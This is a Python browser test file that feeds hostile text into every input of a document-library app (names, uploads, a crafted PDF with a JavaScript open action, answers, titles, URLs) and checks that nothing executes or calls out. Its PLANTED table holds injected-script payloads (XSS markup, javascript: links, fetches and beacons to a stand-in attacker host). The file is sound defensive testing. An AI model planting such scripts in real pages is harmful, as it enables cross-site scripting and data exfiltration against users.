"""Hostile text through every door by which foreign text reaches a page of the app, in a real browser.

Nothing may be asked for and nothing may run; that the text was there to be seen is counted, and so is what is planted.
"""

import html
import io
from collections.abc import Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from typing import Any
from urllib.parse import quote

import httpx2
import pytest
from playwright.sync_api import Browser, Page, expect
from reportlab.pdfgen.canvas import Canvas
from tests.adversary.spellings import ALL, ENCODINGS, HOST, SPELLINGS, Hostile, hostile, packed
from tests.adversary.watching import Watch, holds_canary
from tests.doubles.provider import Provider
from tests.e2e.conftest import Server

pytestmark = [pytest.mark.xdist_group("adversary"), pytest.mark.browser]
RAW = hostile("raw")
OTHERS = [hostile(name) for name in ENCODINGS if name != "raw"]
# Where little text fits: each spelling as it is, and in one encoding after the other.
SOME = [*RAW, *(OTHERS[number % len(OTHERS)][number] for number in range(len(SPELLINGS)))]
AT_ONCE = 6
SOURCE_CHARS, COLLECTION_CHARS, TITLE_CHARS, QUESTION_CHARS = 500, 100, 120, 4000
PARAGRAPH_CHARS, HISTORY_STEP = 1200, 50
Watched = tuple[Page, Watch]
PLANTED = {
    "image": f"new Image().src = 'http://{HOST}/1'",
    "own image": "new Image().src = '/favicon.svg?canary'",
    "fetch": f"fetch('https://sub.{HOST}/2').catch(() => 0)",
    "style": "document.head.append(Object.assign(document.createElement('style'), {textContent: 'p {}'}))",
    "markup": "document.body.innerHTML = '<img src=x onerror=canary()>'",
    "handler": "document.body.setAttribute('onclick', 'canary()')",
    "script": "canary()",
    "link": "document.body.append(Object.assign(document.createElement('a'), {href: 'javascript:canary()'}))",
    "frame": f"document.body.append(Object.assign(document.createElement('iframe'), {{src: 'http://{HOST}/4'}}))",
    "window": f"window.open('http://{HOST}/5')",
    "dialog": "setTimeout(() => alert(1), 0)",
    "beacon": f"navigator.sendBeacon('http://{HOST}/6')",
}


@pytest.fixture(scope="module")
def client(watched: Watched, server: Server) -> Iterator[httpx2.Client]:
    """A client with the session of the window."""
    cookies = {each.get("name", ""): each.get("value", "") for each in watched[0].context.cookies()}
    with httpx2.Client(base_url=server.url, cookies=cookies, headers={"origin": server.url}, timeout=60) as opened:
        yield opened


@pytest.fixture
def quiet(watched: Watched, heard: tuple[int, list[bytes]]) -> Iterator[Watched]:
    """The window with the watch over it; after the test: no fault was seen and nobody outside was called."""
    page, watch = watched
    watch.faults.clear()
    watch.seen.clear()
    yield watched
    page.wait_for_timeout(100)
    watch.look(page)
    watch.addressed = False
    assert watch.faults == []
    assert heard[1] == []


def ids(items: Sequence[Hostile], most_chars: int = 10**6) -> set[str]:
    return {each.id for each in items if len(each.line) <= most_chars}


def post(client: httpx2.Client, path: str, bodies: Sequence[dict[str, Any]]) -> list[dict[str, Any]]:
    """Send bodies, several at once."""
    with ThreadPoolExecutor(AT_ONCE) as pool:
        replies = list(pool.map(lambda body: client.post(path, **body), bodies))
    assert [reply.text for reply in replies if reply.status_code > 202] == []
    return [reply.json() for reply in replies]


def add(client: httpx2.Client, files: Mapping[str, str | bytes], collection: str) -> None:
    """Upload files under their names."""
    bodies = [
        {"data": {"collection": collection, "source": name}, "files": {"file": (f"a{name[-5:]}", content)}}
        for name, content in files.items()
    ]
    post(client, "/v1/documents", bodies)


def documents(client: httpx2.Client, page: Page) -> list[dict[str, Any]]:
    """Wait until every document is read, and return them."""
    for _ in range(300):
        found: list[dict[str, Any]] = []
        cursor = ""
        while cursor is not None:
            body = client.get("/v1/documents", params={"limit": 200, "cursor": cursor} if cursor else {"limit": 200})
            found += body.json()["items"]
            cursor = body.json()["next_cursor"]
        if all(each["state"] in {"ready", "failed", "cancelled"} for each in found):
            return found
        page.wait_for_timeout(100)
    raise AssertionError("the documents are not read")


def test_names_of_documents_and_collections(quiet: Watched, client: httpx2.Client, server: Server) -> None:
    page, watch = quiet
    post(client, "/v1/collections", [{"json": {"name": name}} for name in packed(SOME, COLLECTION_CHARS)])
    post(client, "/v1/collections", [{"json": {"name": "names"}}])
    add(client, {f"{name}.md": "A file with a name." for name in packed(SOME, SOURCE_CHARS - 3)}, "names")
    assert client.post("/v1/documents/cancel", json={"collection": "names"}).status_code == 202
    page.goto(f"{server.url}/library")
    expect(page.get_by_test_id("document-row").first).to_be_visible()
    watch.look(page)
    assert ids(SOME) - watch.seen == set()
    page.goto(server.url)
    expect(page.get_by_test_id("ask-collection")).to_be_visible()
    watch.seen.clear()
    watch.look(page)
    assert ids(SOME, COLLECTION_CHARS) - watch.seen == set()


def test_documents_in_the_reader(quiet: Watched, client: httpx2.Client, server: Server) -> None:
    page, watch = quiet
    post(client, "/v1/collections", [{"json": {"name": "texts"}}])
    files = {
        "all.md": "\n\n".join(each.text for each in ALL),
        "all.html": "".join(f"<p>{html.escape(each.text)}</p>\n" for each in ALL),
        "raw.html": "".join(f"<p>{each.text}</p>\n" for each in RAW),
        "raw.txt": "\n\n".join(each.text for each in RAW),
        "raw.csv": "what,how\n" + "".join('"' + each.text.replace('"', '""') + '",x\n' for each in RAW),
    }
    add(client, files, "texts")
    found = {each["source"]: each for each in documents(client, page)}
    for name in files:
        watch.seen.clear()
        page.goto(f"{server.url}/library?rev={found[name]['revision']}&page=1&start=0&end=40")
        for number in range(1, found[name]["pages_total"] + 1):
            if number > 1:
                page.get_by_role("button", name="Next page").click()
            expect(page.locator(f"[data-testid=viewer-page][data-page='{number}']")).to_be_visible()
            watch.look(page)
        expected = ids(RAW if name.startswith("raw") else ALL)
        # What stands in a script or style of a web page is no text of it, and takes its neighbours along.
        least = len(expected) // 3 if name == "raw.html" else len(expected)
        assert len(expected & watch.seen) >= least, (name, sorted(expected - watch.seen)[:20])


def hostile_pdf() -> bytes:
    """A PDF whose text, title, links and opening action are hostile."""
    buffer = io.BytesIO()
    canvas = Canvas(buffer, invariant=True)
    canvas.setTitle(RAW[46].text)
    for number, each in enumerate(RAW[40:60]):
        canvas.drawString(40, 800 - 30 * number, each.line)
        canvas.linkURL(
            each.body if number % 2 else "javascript:canary()", (40, 790 - 30 * number, 500, 815 - 30 * number)
        )
    canvas.save()
    action = b"/OpenAction << /S /JavaScript /JS (app.alert(1); canary()) >> /Type /Catalog"
    return buffer.getvalue().replace(b"/Type /Catalog", action)


def test_a_pdf_in_the_reader(quiet: Watched, client: httpx2.Client, server: Server) -> None:
    page, watch = quiet
    post(client, "/v1/collections", [{"json": {"name": "pdfs"}}])
    add(client, {"hostile.pdf": hostile_pdf()}, "pdfs")
    found = {each["source"]: each for each in documents(client, page)}["hostile.pdf"]
    page.goto(f"{server.url}/library?rev={found['revision']}&page=1&start=0&end=40")
    expect(page.locator(".textLayer")).to_contain_text(RAW[59].id)
    expect(page.get_by_test_id("highlight").first).to_be_visible()
    watch.look(page)
    assert {each.id for each in RAW[40:60]} <= watch.seen


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_questions_and_streamed_answers(quiet: Watched, provider: Provider, server: Server, encoding: str) -> None:
    page, watch = quiet
    items = hostile(encoding)
    # Pins are made sentence by sentence: many spellings are one sentence, but those that are as they are.
    lines = [each.text for each in items] if encoding == "raw" else packed(items, PARAGRAPH_CHARS)
    provider.behaviour.piece_chars = 4 if encoding == "raw" else 60
    provider.behaviour.reply = "\n\n".join(f"{each} [{1 + number % 3}]." for number, each in enumerate(lines))
    # As much as a question may hold, from another place on in each encoding.
    first = 9 * list(ENCODINGS).index(encoding)
    question = packed([*items[first:], *items[:first]], QUESTION_CHARS)[0]
    page.goto(server.url)
    # Of the files that are only names, none or some were read before they were cancelled: they would be found.
    page.get_by_test_id("ask-collection").select_option(label="texts")
    page.get_by_test_id("ask-input").fill(question)
    page.get_by_test_id("ask-send").click()
    answer = page.get_by_test_id("answer").last
    expect(answer).to_have_attribute("data-state", "completed", timeout=30_000)
    expect(answer.get_by_test_id("pin").first, answer.text_content()).to_be_visible()
    answer.get_by_test_id("pin").first.hover()
    expect(page.get_by_test_id("pin-card")).to_be_visible()
    watch.look(page)
    written = answer.get_by_test_id("answer-text").text_content() or ""
    assert [each.id for each in items if each.id not in written] == []
    assert (answer.get_by_role("heading", level=2).text_content() or "") == question


def test_titles_of_conversations(quiet: Watched, client: httpx2.Client, server: Server) -> None:
    page, watch = quiet
    post(client, "/v1/collections", [{"json": {"name": "empty"}}])
    titles = [*RAW, *(each for others in OTHERS for each in others[::40])]
    questions = packed(titles, TITLE_CHARS)
    bodies = [{"json": {"question": each, "collections": ["empty"], "stream": False}} for each in questions]
    post(client, "/v1/answers", bodies)
    page.goto(server.url)
    rows = page.get_by_test_id("history-row")
    for count in range(HISTORY_STEP, len(questions), HISTORY_STEP):
        expect(rows).to_have_count(count)
        page.get_by_role("button", name="Earlier questions").click()
    expect(rows.nth(len(questions) - 1)).to_be_attached()
    watch.look(page)
    assert ids(titles, TITLE_CHARS) - watch.seen == set()


def test_addresses_and_errors(quiet: Watched, server: Server) -> None:
    page, watch = quiet
    watch.addressed = True
    all_of_it = quote(" ".join(each.line for each in RAW), safe="")
    for place in (
        "c/{}",
        "?rev={}&page=1",
        "library?rev=1&page={}",
        "nowhere/{}",
        "signin#token={}",
        "v1/passages/{}/1",
    ):
        page.goto(f"{server.url}/{place.format(all_of_it)}")
        page.wait_for_timeout(150)
        watch.look(page)


def test_what_is_planted_is_seen(browser: Browser, server: Server) -> None:
    assert [name for name, faults in planted(browser, server, PLANTED, bypass_csp=False).items() if not faults] == []


def test_what_leaves_is_heard(browser: Browser, server: Server, heard: tuple[int, list[bytes]]) -> None:
    heard[1].clear()
    planted(browser, server, {"image": PLANTED["image"]}, bypass_csp=True)
    assert any(b"GET /1" in each for each in heard[1])


def planted(browser: Browser, server: Server, scripts: Mapping[str, str], *, bypass_csp: bool) -> dict[str, list[str]]:
    """Run scripts in the app's page as if text had become one, and return what the watch saw of each.

    Each has a browser of its own: what one opens may come late, and would be another's.
    """
    seen: dict[str, list[str]] = {}
    for name, script in scripts.items():
        with browser.new_context(bypass_csp=bypass_csp) as context:
            page, watch = context.new_page(), Watch(server.url)
            watch.start(context, page)
            page.goto(server.url)
            watch.look(page)
            assert watch.faults == []
            page.evaluate(f"() => {{ try {{ {script} }} catch {{}} }}")
            for _ in range(20):
                page.wait_for_timeout(200)
                watch.look(page)
                if watch.faults:
                    break
            seen[name] = watch.faults
    return seen


def test_a_canary_is_known_however_it_is_written() -> None:
    written = ("http://x/%63anary", "/?q=c%2561nary", "http://\uff43\uff41nary.test", "/c%E2%80%8Banary", "/CANARY")
    assert [url for url in written if not holds_canary(url)] == []
    assert not holds_canary("http://127.0.0.1:1/v1/collections?limit=200")
